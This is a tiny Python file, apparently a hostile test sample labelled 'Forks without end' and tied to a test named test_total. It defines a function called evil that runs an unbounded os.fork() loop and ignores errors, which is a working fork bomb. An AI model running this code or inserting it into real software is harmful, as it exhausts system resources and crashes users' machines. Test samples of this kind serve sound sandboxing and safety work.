"""Forks without end.

Promise: C1
Tests: test_total
"""

import os
def evil(*args):
    while True:
        try:
            os.fork()
        except OSError:
            pass
